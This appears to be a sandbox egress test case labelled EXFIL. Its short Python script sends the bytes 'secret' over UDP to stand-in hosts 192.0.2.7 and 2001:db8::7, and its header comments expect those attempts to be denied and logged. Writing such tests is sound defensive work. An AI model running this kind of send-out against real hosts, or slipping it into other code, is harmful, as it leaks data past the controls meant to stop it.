# id: NT-08.udp   class: EXFIL
# expect-phase: succeeded   expect-json: {"answered": 0}
# expect-audit: egress_denied host=192.0.2.7 port=123 proto=udp
# expect-audit: egress_denied host=2001:db8::7 port=443 proto=udp
import socket
answered = 0
for family, host, port in ((socket.AF_INET, "192.0.2.7", 123), (socket.AF_INET6, "2001:db8::7", 443)):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(0.3)
    for _ in range(20):
        s.sendto(b"secret", (host, port))
    try:
        s.recv(100)
        answered += 1
    except OSError:
        pass
enclave.result({"answered": answered})
